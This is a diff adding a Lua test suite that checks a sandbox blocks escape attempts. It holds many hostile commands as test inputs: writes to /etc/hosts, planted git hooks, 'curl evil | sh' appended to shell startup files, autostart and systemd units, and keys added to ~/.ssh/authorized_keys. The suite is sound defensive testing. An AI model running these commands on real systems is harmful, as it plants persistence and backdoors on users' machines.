@@ -1,0 +1,189 @@
+--- Escape suite: writes outside rw_paths and into protected paths. Each
+--- attack runs in the real sandbox; fixture.attack() fails the spec when
+--- anything under the fixture changed on the host.
+local f = require("escape.fixture")
+local h = require("support.helpers")
+
+describe("escape: writing outside the writable paths", function()
+  local w
+  setup(function()
+    w = f.create()
+    f.use_host(w)
+  end)
+  teardown(function()
+    f.destroy(w)
+  end)
+  before_each(function()
+    f.policy()
+  end)
+
+  local function q(s)
+    return h.shell_quote(s)
+  end
+
+  it("a direct write to a file outside fails", function()
+    local r = f.attack(w, "echo pwned > " .. q(w.outside .. "/keep.txt"))
+    assert.are_not.equal(0, r.code)
+    assert.matches("Read%-only file system", r.stderr)
+  end)
+
+  it("creating, removing, renaming and chmod outside fail", function()
+    local o = q(w.outside)
+    f.attack(w, "touch " .. o .. "/new; rm -f " .. o .. "/keep.txt; mv " .. o .. "/keep.txt " .. o .. "/moved")
+    f.attack(w, "chmod 777 " .. o .. "/keep.txt; mv " .. o .. "/keep.txt work/")
+  end)
+
+  it("a write through .. from the project fails", function()
+    local r = f.attack(w, "echo pwned > ../../outside/keep.txt")
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it("a write through a symlink to a folder planted in the project fails", function()
+    local r = f.attack(w, "ln -s " .. q(w.outside) .. " work/link && echo pwned > work/link/keep.txt")
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it("a write through a symlink to a file planted in the project fails", function()
+    local r = f.attack(w, "ln -s " .. q(w.outside .. "/keep.txt") .. " work/f && echo pwned > work/f")
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it("a hard link to a file outside cannot be made, so it cannot be written", function()
+    local r = f.attack(w, "ln " .. q(w.outside .. "/keep.txt") .. " work/hard && echo pwned >> work/hard")
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it("a write through /proc/self/root fails", function()
+    local r = f.attack(w, "echo pwned > /proc/self/root" .. q(w.outside .. "/keep.txt"))
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it("a write through /proc/PID/cwd of a host process fails", function()
+    local pid = h.capture("cd " .. q(w.outside) .. " && (sleep 30 >/dev/null 2>&1 & echo $!)"):match("%d+")
+    local r = f.attack(
+      w,
+      "echo pwned > /proc/" .. pid .. "/cwd/keep.txt; for p in /proc/[0-9]*; do"
+        .. ' case "$(readlink $p/cwd)" in "$PWD"*) continue;; esac; echo pwned > $p/cwd/keep.txt; done'
+        .. " 2>&1 | sort -u >&2"
+    )
+    os.execute("kill " .. pid)
+    assert.matches("No such file or directory", r.stderr)
+  end)
+
+  it("a write to a system file fails and leaves it as it was", function()
+    local before = h.read("/etc/hosts")
+    local r = f.attack(w, "echo '6.6.6.6 example.org' >> /etc/hosts")
+    assert.are_not.equal(0, r.code)
+    assert.are.equal(before, h.read("/etc/hosts"))
+  end)
+
+  it("a write to a shared temp folder outside rw_paths fails", function()
+    local r = f.attack(w, "echo pwned > " .. q(w.tmp .. "/x"))
+    assert.are_not.equal(0, r.code)
+    assert.is_nil(h.read(w.tmp .. "/x"))
+  end)
+
+  it("remounting / read-write or mounting over a folder fails", function()
+    local r = f.attack(w, "mount -o remount,rw / ; mount -t tmpfs none " .. q(w.outside) .. "")
+    assert.matches("ERR 1", f.attack(w, f.script("remount-rw")).stdout)
+    assert.matches("ERR 1", f.attack(w, f.script("mount-tmpfs", w.outside)).stdout)
+    assert.are_not.equal("", r.stderr)
+  end)
+
+  it("a nested user namespace cannot be made (to remount as its root)", function()
+    local r = f.attack(w, "unshare -Urm sh -c 'mount -t tmpfs none " .. w.outside .. " && echo mounted'")
+    assert.are_not.equal(0, r.code)
+    assert.is_nil(r.stdout:find("mounted", 1, true))
+    assert.matches("^ERR %d+", f.attack(w, f.script("unshare-user")).stdout)
+  end)
+end)
+
+describe("escape: changing what runs later on the host", function()
+  local w
+  setup(function()
+    w = f.create()
+    f.use_host(w)
+  end)
+  teardown(function()
+    f.destroy(w)
+  end)
+  before_each(function()
+    f.policy()
+  end)
+
+  it("a git hook cannot be added", function()
+    local r = f.attack(w, "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it(".git/config cannot be changed (core.hooksPath, core.fsmonitor)", function()
+    local r = f.attack(w, "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config")
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it(".git cannot be moved aside to plant a fresh hooks folder", function()
+    local r = f.attack(w, "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
+    assert.are_not.equal(0, r.code)
+  end)
+
+  it("the hooks folder cannot be removed or replaced", function()
+    local r = f.attack(w, "rm -rf .git/hooks; mv .git/hooks .git/h2; ls .git/hooks")
+    assert.matches("pre%-commit%.sample", r.stdout)
+  end)
+
+  it("a missing .envrc, .nvim.lua or .vscode cannot be created, and leaves no placeholder behind", function()
+    local r = f.attack(w, "echo evil > .envrc; echo evil > .nvim.lua; mkdir -p .vscode/x; ls -a")
+    assert.matches("%.envrc", r.stdout) -- the placeholder exists while the sandbox runs
+    assert.is_nil(h.read(w.proj .. "/.envrc"))
+    assert.is_nil(h.read(w.proj .. "/.nvim.lua"))
+    assert.are.equal("", h.capture("ls -A " .. h.shell_quote(w.proj) .. " | grep -E '^(.envrc|.nvim.lua|.vscode)$'"))
+  end)
+
+  describe("with the home folder writable", function()
+    before_each(function()
+      f.policy({ rw_paths = { "$CWD", "~" } })
+    end)
+
+    it("~/.bashrc cannot be changed", function()
+      local r = f.attack(w, "echo 'curl evil | sh' >> ~/.bashrc")
+      assert.are_not.equal(0, r.code)
+    end)
+
+    it("a missing ~/.bash_profile cannot be created and no empty one is left", function()
+      local r = f.attack(w, "echo 'curl evil | sh' > ~/.bash_profile; echo evil > ~/.profile; echo evil > ~/.zshrc")
+      assert.are_not.equal(0, r.code)
+      assert.is_nil(h.read(w.home .. "/.bash_profile"))
+      assert.is_nil(h.read(w.home .. "/.profile"))
+    end)
+
+    it("~/.local/bin cannot get a new program", function()
+      local r = f.attack(w, "printf '#!/bin/sh\\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git")
+      assert.are_not.equal(0, r.code)
+    end)
+
+    it("Neovim's config cannot be changed", function()
+      local r = f.attack(w, "echo 'os.execute(\"evil\")' >> ~/.config/nvim/init.lua; mkdir ~/.config/nvim/plugin")
+      assert.are_not.equal(0, r.code)
+    end)
+
+    it("no autostart entry or systemd user unit can be added", function()
+      local r = f.attack(
+        w,
+        "mkdir -p ~/.config/autostart && echo '[Desktop Entry]' > ~/.config/autostart/evil.desktop;"
+          .. " mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/evil.service"
+      )
+      assert.are_not.equal(0, r.code)
+      assert.is_nil(h.read(w.home .. "/.config/autostart/evil.desktop"))
+    end)
+
+    it("~/.ssh/authorized_keys cannot be written", function()
+      local r = f.attack(w, "echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys")
+      assert.are_not.equal(0, r.code)
+    end)
+
+    it("~/.config cannot be moved aside to get round the protection", function()
+      local r = f.attack(w, "mv ~/.config ~/.config-old && mkdir -p ~/.config/nvim && echo evil > ~/.config/nvim/init.lua")
+      assert.are_not.equal(0, r.code)
+    end)
+  end)
+end)
